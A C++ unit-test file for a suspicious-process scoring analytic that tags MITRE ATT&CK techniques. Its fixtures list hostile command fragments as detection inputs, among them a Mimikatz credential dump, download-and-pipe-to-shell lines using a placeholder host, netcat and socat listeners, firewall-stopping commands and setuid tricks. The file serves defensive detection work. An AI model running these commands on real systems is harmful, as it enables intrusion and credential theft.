#include <fstream>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "plugins/analytics_native/fake_input.hpp"
#include "plugins/analytics_native/native_analytics.hpp"

namespace kestrel::analytics_native {
namespace {

using Row = std::vector<std::pair<std::string, std::string>>;  // column, text

// Returns score and techniques of one process, such as `2 T1087` or `0`.
std::string scored(const Row& row, FakeArguments arguments = {}) {
  FakeInput input(1);
  for (const auto& [column, text] : row) {
    input.add(column, DataType::text, {text});
  }
  Context context;
  const auto outcome = apply(*make(), "susp_scoring", std::move(arguments), input, context);
  if (!outcome) {
    return outcome.diagnostic().message;
  }
  const Table& table = table_of(*outcome);
  EXPECT_EQ(table.schema().visible_names(),
            (std::vector<std::string>{"id", "x_suspicious_score", "x_attack_techniques"}));
  EXPECT_EQ(table.column(0).at<TextCell>(0).view(), "network-traffic--0");
  std::string text = std::to_string(table.column(1).at<std::int64_t>(0));
  if (table.column(2).is_valid(0)) {
    text += " " + std::string(table.column(2).at<TextCell>(0).view());
  }
  return text;
}

constexpr const char* binary = "binary_ref.name";
constexpr const char* parent = "parent_ref.binary_ref.name";
constexpr const char* folder = "binary_ref.parent_directory_ref.path";
constexpr const char* command = "command_line";

TEST(SuspScoring, EachRuleAlone) {
  EXPECT_EQ(scored({{command, "mimikatz sekurlsa::logonpasswords"}}), "1 T1550.002");
  EXPECT_EQ(scored({{binary, "sethc.exe"}}), "1 T1546.008");
  for (const char* name :
       {"osk.exe", "Magnify.exe", "Narrator.exe", "DisplaySwitch.exe", "AtBroker.exe"}) {
    EXPECT_EQ(scored({{parent, name}}), "1 T1546.008") << name;
  }
  EXPECT_EQ(scored({{binary, "powershell.exe"}, {command, "powershell -eNc AAAA"}}), "2 T1059.001");
  EXPECT_EQ(scored({{binary, "powershell.exe"}, {command, "powershell -Version 2"}}),
            "1 T1059.001");
  EXPECT_EQ(scored({{command, "net use z: \\\\host\\share"}}), "1");
  EXPECT_EQ(scored({{command, "net group"}}), "1 T1087");
  EXPECT_EQ(scored({{command, "net localgroup"}}), "1 T1087");
  EXPECT_EQ(scored({{command, "whoami"}}), "1 T1087");
  EXPECT_EQ(scored({{"type", "windows-registry-key"}, {"key", "x\\BackgroundAccessApplications"}}),
            "1");
  for (const char* path : {"C:\\", "C:\\Windows\\TEMP", "C:\\Users\\bob_7\\AppData\\Local\\Temp",
                           "D:C:\\Users\\b\\AppData\\Local\\Temp\\deeper"}) {
    EXPECT_EQ(scored({{folder, path}}), "2") << path;
  }
  for (const char* name :
       {"WINWORD.EXE", "EXCEL.EXE", "POWERPNT.EXE", "MSACCESS.EXE", "OUTLOOK.EXE", "VISIO.EXE"}) {
    EXPECT_EQ(scored({{parent, name}, {binary, "cmd.exe"}}), "2") << name;
  }
  EXPECT_EQ(scored({{parent, "EXCEL.EXE"}, {binary, "powershell.exe"}}), "2");
  EXPECT_EQ(scored({{parent, "node"}, {binary, "sh"}}), "3");
}

TEST(SuspScoring, EveryCommandLinePatternAlone) {
  for (const char* text : {"wget -O - http://h/a | perl",
                           "wget -O - http://h/a | sh",
                           "wget -O - http://h/a | bash",
                           "python -m SimpleHTTPServer",
                           "python3 -m http.server",
                           "import pty; pty.spawn('x')",
                           "socat exec:x",
                           "socat -O /tmp/x",
                           "socat tcp-connect:x",
                           "echo binary >> x",
                           "wget x; chmod +x x",
                           "wget x; chmod 777 x",
                           "cd /tmp || cd /var/run || cd /mnt; x",
                           "stop;service iptables stop;",
                           "stop;SuSEfirewall2 stop;",
                           "chmod 777 2020x",
                           "echo x >>/etc/rc.local",
                           "base64 -d /tmp/y",
                           "x | base64 -d y",
                           "x/chmod u+s x",
                           "chmod +s /tmp/y",
                           "chmod u+s /tmp/y",
                           "x /tmp/haxhax",
                           "x /tmp/ns_sploit",
                           "nc -l -p 1",
                           "cp /bin/ksh x",
                           "cp /bin/sh x",
                           "x /tmp/a.b64 y",
                           "/tmp/ysocereal.jar",
                           "/tmp/x y",
                           "x; chmod +x /tmp/y",
                           "x;chmod +x /tmp/y",
                           "tweet"}) {
    EXPECT_EQ(scored({{command, text}}), "1") << text;
  }
}

TEST(SuspScoring, EndOfCommandLineIsTheEnd) {
  EXPECT_EQ(scored({{command, "python -m SimpleHTTPServer 80"}}), "0");
  EXPECT_EQ(scored({{command, "echo x >>/etc/rc.local "}}), "0");
}

TEST(SuspScoring, PointsAddUp) {
  EXPECT_EQ(scored({{command, "net user bob"}}), "2 T1087");
  EXPECT_EQ(scored({{parent, "node"},
                    {binary, "powershell.exe"},
                    {folder, "C:\\"},
                    {command, "x -enc -version sekurlsa whoami"}}),
            "10 T1550.002 T1059.001 T1087");
}

TEST(SuspScoring, LetterCaseCounts) {
  EXPECT_EQ(scored({{binary, "SETHC.EXE"}}), "0");
  EXPECT_EQ(scored({{command, "NET USE"}}), "0");
  EXPECT_EQ(scored({{folder, "c:\\windows\\temp"}}), "0");
  EXPECT_EQ(scored({{binary, "PowerShell.exe"}, {command, "-enc"}}), "0");
}

TEST(SuspScoring, LetterCaseOfNamesCanBeIgnored) {
  const FakeArguments ignoring{{"ignore_case", "TRUE"}};
  EXPECT_EQ(scored({{binary, "SETHC.EXE"}}, ignoring), "1 T1546.008");
  EXPECT_EQ(scored({{folder, "c:\\windows\\temp"}}, ignoring), "2");
  EXPECT_EQ(scored({{binary, "NODE"}, {parent, "Node"}}, ignoring), "0");
  EXPECT_EQ(scored({{command, "NET USE"}}, ignoring), "0");
}

TEST(SuspScoring, MissingBinaryIsNotNode) {
  EXPECT_EQ(scored({{parent, "node"}}), "3");
  EXPECT_EQ(scored({{parent, "node"}, {binary, "node"}}), "0");
}

TEST(SuspScoring, MissingColumnsAndOtherTypesAreEmpty) {
  EXPECT_EQ(scored({}), "0");
  FakeInput input(2);
  input.add(command, DataType::integer, {std::int64_t{1}, std::monostate()});
  input.add(parent, DataType::text, {std::monostate(), "node"});
  Context context;
  const auto outcome = apply(*make(), "susp_scoring", {}, input, context);
  ASSERT_TRUE(outcome);
  EXPECT_EQ(table_of(*outcome).column(1).at<std::int64_t>(0), 0);
  EXPECT_EQ(table_of(*outcome).column(1).at<std::int64_t>(1), 3);
}

TEST(SuspScoring, EmptyVariableHasNoScores) {
  FakeInput input(0);
  Context context;
  const auto outcome = apply(*make(), "susp_scoring", {}, input, context);
  ASSERT_TRUE(outcome);
  EXPECT_EQ(table_of(*outcome).row_count(), 0U);
}

TEST(SuspScoring, OtherAlphabetsAndZeroBytesAreText) {
  EXPECT_EQ(scored({{command, std::string("caf\xC3\xA9\0 whoami", 13)}}), "1 T1087");
  EXPECT_EQ(scored({{folder, "C:\\Users\\jos\xC3\xA9\\AppData\\Local\\Temp"}}), "0");
}

// What every form of susp_scoring must answer.
TEST(SuspScoring, AgreesWithTheExamplesOfTheContainer) {
  const auto json = nlohmann::json::parse(std::ifstream(KESTREL_SCORING_EXAMPLES));
  ASSERT_GT(json.at("examples").size(), 30U);
  for (const auto& example : json.at("examples")) {
    Row row;
    for (const auto& [column, text] : example.at("row").items()) {
      row.emplace_back(column, text);
    }
    std::string expected = std::to_string(example.at("score").get<std::int64_t>());
    if (!example.at("techniques").is_null()) {
      expected += " " + example.at("techniques").get<std::string>();
    }
    const bool ignoring = example.value("ignore_case", false);
    EXPECT_EQ(scored(row, {{"ignore_case", ignoring ? "true" : "false"}}), expected)
        << example.dump();
  }
}

}  // namespace
}  // namespace kestrel::analytics_native
